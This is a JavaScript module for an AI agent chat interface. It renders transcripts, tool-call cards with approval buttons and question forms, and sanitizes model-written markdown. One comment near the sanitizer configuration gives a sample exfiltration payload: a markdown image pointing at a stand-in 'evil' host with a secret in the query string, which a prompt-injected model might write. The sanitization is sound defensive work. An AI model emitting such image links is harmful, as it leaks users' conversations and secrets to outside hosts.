// What the chat shows: a list of items (user turns, answers, tool cards, notes) built
// from a thread's stored transcript or from a live run's AgentEvents, and their DOM.

/** Tool card states in words (never the protocol's internal names). */
export const STATUS = {
  running: "Running",
  done: "Done",
  failed: "Failed",
  blocked: "Blocked",
  skipped: "Answered without running",
  approval: "Waiting for your approval",
  question: "Waiting for your answer",
  sent: "Answer sent",
};

const OUTCOME = { success: "done", error: "failed", blocked: "blocked", short_circuit: "skipped" };

/** The text of a transcript message (its content, or its text parts joined). */
export function textOf(message, type = "text") {
  const { content } = message;
  if (typeof content === "string") return type === "text" ? content : "";
  if (!Array.isArray(content)) return "";
  return content.filter((p) => p.type === type && p.text).map((p) => p.text).join("");
}

/** A ticket's kind: an approval (a permission gate) or a question (anything else). */
const ticketStatus = (ticket) => (ticket.await_reason === "tool_permission" ? "approval" : "question");

/** The items of a stored thread: its messages, with pending tickets on their calls. */
export function fromThread(thread) {
  const items = [];
  const calls = new Map();
  for (const m of thread.messages) {
    if (m.role === "user") items.push({ kind: "user", text: textOf(m) });
    if (m.role === "assistant") {
      const text = textOf(m);
      // Reasoning is kept in the message's metadata (or as reasoning parts).
      const kept = m.metadata?.reasoning;
      const reasoning = textOf(m, "reasoning") || (typeof kept === "string" ? kept : "");
      if (text || reasoning) items.push({ kind: "assistant", text, reasoning });
      for (const call of m.tool_calls || []) {
        const card = { kind: "tool", id: call.id, name: call.name, args: call.arguments, status: "running" };
        calls.set(call.id, card);
        items.push(card);
      }
    }
    if (m.role === "tool" && calls.has(m.tool_call_id)) {
      const status = m.metadata?.is_error ? "failed" : "done";
      Object.assign(calls.get(m.tool_call_id), { status, result: textOf(m) });
    }
  }
  for (const ticket of thread.pending_tickets || []) attachTicket(items, calls, ticket);
  return items;
}

function attachTicket(items, calls, ticket) {
  let card = calls.get(ticket.call.id);
  if (!card) {
    card = { kind: "tool", id: ticket.call.id, name: ticket.call.name, args: ticket.call.arguments };
    calls.set(card.id, card);
    items.push(card);
  }
  Object.assign(card, { status: ticketStatus(ticket), ticket, dirty: true });
}

/** Applies a live run's AgentEvents to the items (only the root run's: a sub-agent's
 * work reaches the chat as its delegating call's result). */
export class LiveRun {
  constructor(items) {
    this.items = items;
    this.root = null;
    this.finish = null;
    this.calls = new Map(items.filter((i) => i.kind === "tool").map((i) => [i.id, i]));
  }

  answer() {
    const last = this.items[this.items.length - 1];
    if (last?.kind === "assistant" && last.live) return last;
    const fresh = { kind: "assistant", text: "", reasoning: "", live: true };
    this.items.push(fresh);
    return fresh;
  }

  apply(event) {
    if (event.type === "run_start" && this.root === null && !event.parent_run_id) this.root = event.run_id;
    if (event.run_id !== this.root) return;
    if (event.type === "text_delta") {
      const answer = this.answer();
      answer[event.channel === "reasoning" ? "reasoning" : "text"] += event.delta;
      answer.dirty = true;
    } else if (event.type === "tool_call_ready") {
      const card = this.calls.get(event.call_id)
        || { kind: "tool", id: event.call_id, name: event.name, args: event.arguments };
      if (!this.calls.has(card.id)) { this.calls.set(card.id, card); this.items.push(card); }
      Object.assign(card, { status: "running", dirty: true });
    } else if (event.type === "tool_call_done" && event.outcome !== "suspended") {
      const card = this.calls.get(event.call_id);
      if (card) Object.assign(card, { status: OUTCOME[event.outcome] || "done", result: event.output, ticket: null, dirty: true });
    } else if (event.type === "run_finish") {
      this.finish = event;
      for (const ticket of event.tickets || []) attachTicket(this.items, this.calls, ticket);
    }
  }
}

function el(tag, attrs = {}, ...children) {
  const node = document.createElement(tag);
  for (const [k, v] of Object.entries(attrs)) {
    if (k.startsWith("on")) node.addEventListener(k.slice(2), v);
    else if (v !== undefined && v !== null && v !== false) node.setAttribute(k, v === true ? "" : v);
  }
  node.append(...children.filter((c) => c !== null && c !== undefined && c !== false));
  return node;
}

// Model text is untrusted: marked renders it, DOMPurify keeps only inert markup. Images
// are dropped too: a model tricked into writing ![](https://evil/?q=<secret>) would
// otherwise make the browser send the conversation away.
const PURIFY = {
  FORBID_TAGS: ["img", "style", "form", "input", "button", "textarea", "select", "iframe", "svg", "math"],
  FORBID_ATTR: ["style"],
  RETURN_DOM_FRAGMENT: true,
};
let hooked = false;

/** Markdown text as sanitized DOM nodes (links open in a new tab, without referrer). */
export function markdown(text) {
  if (!hooked) {
    window.DOMPurify.addHook("afterSanitizeAttributes", (node) => {
      if (node.tagName === "A") {
        node.setAttribute("target", "_blank");
        node.setAttribute("rel", "noopener noreferrer nofollow");
      }
    });
    hooked = true;
  }
  const html = window.marked.parse(text, { gfm: true, breaks: true, async: false });
  return window.DOMPurify.sanitize(html, PURIFY);
}

function pretty(value) {
  if (typeof value === "string") {
    try { return JSON.stringify(JSON.parse(value), null, 2); } catch { return value; }
  }
  return JSON.stringify(value ?? {}, null, 2);
}

/** The question a USER_INPUT ticket asks, and the fields of its schema (if any). */
export function question(ticket) {
  const p = ticket.payload || {};
  const forms = p.requests && typeof p.requests === "object" ? Object.values(p.requests) : [];
  const form = forms.length === 1 ? forms[0] : {};
  const text = p.question || p.message || p.prompt || form.message || `${ticket.call.name} asks for an answer`;
  const schema = p.requested_schema || p.schema || p.response_schema || form.requested_schema;
  const props = schema && schema.type === "object" && schema.properties ? schema.properties : null;
  const fields = props
    ? Object.entries(props).filter(([, s]) => ["string", "number", "integer", "boolean"].includes(s.type))
    : [];
  return { text, fields };
}

function questionForm(card, handlers) {
  const { text, fields } = question(card.ticket);
  const qid = `q-${card.id}`;
  const inputs = fields.length
    ? fields.map(([name, s]) => {
      const id = `${qid}-${name}`;
      const type = s.type === "boolean" ? "checkbox" : s.type === "string" ? "text" : "number";
      return el("label", { for: id, class: "field" }, s.title || name,
        el("input", { id, name, type, required: s.type !== "boolean", "data-type": s.type }));
    })
    : [el("input", { id: `${qid}-answer`, name: "answer", type: "text", required: true, "aria-labelledby": qid, class: "answer" })];
  return el("form", {
    class: "question",
    onsubmit: (ev) => {
      ev.preventDefault();
      const form = ev.currentTarget;
      let value;
      if (!fields.length) value = form.elements.answer.value;
      else {
        value = {};
        for (const [name, s] of fields) {
          const input = form.elements[name];
          value[name] = s.type === "boolean" ? input.checked : s.type === "string" ? input.value : Number(input.value);
        }
      }
      handlers.respond(card, value);
    },
  }, el("p", { id: qid }, text), ...inputs, el("button", { type: "submit" }, "Send answer"));
}

function toolCard(card, handlers) {
  const box = el("section", {
    class: `tool status-${card.status}`, "data-tool": card.name, "data-status": card.status,
    "aria-label": `Tool call ${card.name}: ${STATUS[card.status] || card.status}`,
  });
  box.append(el("header", {}, el("strong", {}, card.name), el("span", { class: "status" }, STATUS[card.status] || card.status)));
  box.append(el("details", { class: "args", open: !card.result }, el("summary", {}, "Arguments"), el("pre", {}, pretty(card.args))));
  if (card.result !== undefined) box.append(el("div", { class: "result" }, el("span", { class: "label" }, "Result"), el("pre", {}, pretty(card.result))));
  if (card.ticket && card.status === "approval" && !handlers.busy()) {
    box.append(el("div", { class: "buttons" },
      el("button", { type: "button", class: "approve", onclick: () => handlers.approve(card, true) }, "Approve"),
      el("button", { type: "button", class: "deny", onclick: () => handlers.approve(card, false) }, "Deny")));
  }
  if (card.ticket && card.status === "question" && !handlers.busy()) box.append(questionForm(card, handlers));
  return box;
}

function itemNode(item, handlers) {
  if (item.kind === "user") return el("div", { class: "msg user", "data-role": "user" }, el("div", { class: "text" }, item.text));
  if (item.kind === "assistant") {
    return el("div", { class: "msg assistant", "data-role": "assistant" },
      item.reasoning ? el("details", { class: "reasoning" }, el("summary", {}, "Reasoning"), item.reasoning) : null,
      el("div", { class: "markdown" }, markdown(item.text)));
  }
  if (item.kind === "tool") return toolCard(item, handlers);
  return el("p", { class: `note ${item.tone || ""}`, role: item.tone === "error" ? "alert" : undefined }, item.text);
}

/** Renders the items into `log`, rebuilding only the ones that changed. */
export function render(log, items, handlers) {
  for (const item of items) {
    if (!item.node || item.dirty) {
      item.node = itemNode(item, handlers);
      item.dirty = false;
    }
  }
  const nodes = items.map((i) => i.node);
  if (nodes.length !== log.childNodes.length || nodes.some((n, i) => log.childNodes[i] !== n)) log.replaceChildren(...nodes);
}
